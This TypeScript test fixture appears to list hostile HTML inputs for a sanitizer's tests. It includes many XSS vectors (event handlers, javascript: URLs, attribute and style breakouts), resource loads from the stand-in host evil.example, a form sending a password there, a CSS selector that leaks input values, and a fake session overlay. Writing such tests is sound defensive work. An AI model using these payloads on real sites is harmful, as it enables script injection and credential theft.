import { lines } from './lines.fixture.ts';

/** Pictures, videos, styles and forms that fetch or send something. */
export const mediaAndForms = lines(String.raw`
<img srcset="https://evil.example/a.png 1x" src=/media/x.webp>
<img srcset="/media/x.webp 1x, https://evil.example/a.png 2x" src=/media/x.webp>
<img srcset="/media/x.webp,https://evil.example/a.png 2x" src=/media/x.webp>
<img srcset=",https://evil.example/a.png,," src=/media/x.webp>
<img srcset="javascript:alert(1) 1x" src=/media/x.webp>
<img srcset="data:,x 1x" src=/media/x.webp>
<img srcset="https://content.example@evil.example/a.png 1x" src=/media/x.webp>
<img srcset="//evil.example/a.png" src=/media/x.webp>
<img srcset="https://evil.example/a.png 100w" sizes=100vw>
<img sizes='100vw" onerror="alert(1)' src=/media/x.webp>
<img src=/media/x.webp usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>
<img src=/media/x.webp longdesc=javascript:alert(1) ismap crossorigin=use-credentials referrerpolicy=unsafe-url>
<img src=/media/x.webp width='1" onerror="alert(1)' height=100%>
<img src=/media/x.webp loading='eager" onload="alert(1)'>
<picture><source srcset=https://evil.example/a.png><img src=/media/x.webp></picture>
<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>
<image src=x onerror=alert(1)>
<image xlink:href=x onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<video poster=https://evil.example/a.png></video>
<video poster=javascript:alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<video autoplay onloadstart=alert(1) src=https://evil.example/a.mp4></video>
<audio src=x onerror=alert(1)></audio>
<audio><track src=https://evil.example/a.vtt default></audio>
<canvas><img src=x onerror=alert(1)></canvas>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form action=https://evil.example/><input name=password type=password></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form oninput=alert(1)><input></form>
<isindex action=javascript:alert(1) type=submit>
<textarea autofocus onfocus=alert(1)>
<output onclick=alert(1)>x</output>
<meter onclick=alert(1)>x</meter>
<fieldset onclick=alert(1)><legend onclick=alert(1)>x</legend></fieldset>
<label for=x onclick=alert(1)>x</label>
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/a.png)}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<style><img src=x onerror=alert(1)></style>
<style></style/><img src=x onerror=alert(1)></style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<p style="background:url(https://evil.example/a.png)">x</p>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(https://evil.example/x.htc)">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="position:fixed;inset:0;z-index:9999">Your session has ended</p>
<p style='font-family:"</style><img src=x onerror=alert(1)>"'>x</p>
<p style="x:&#x22;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<div class="dialog overlay fixed c-ok">x</div>
`);
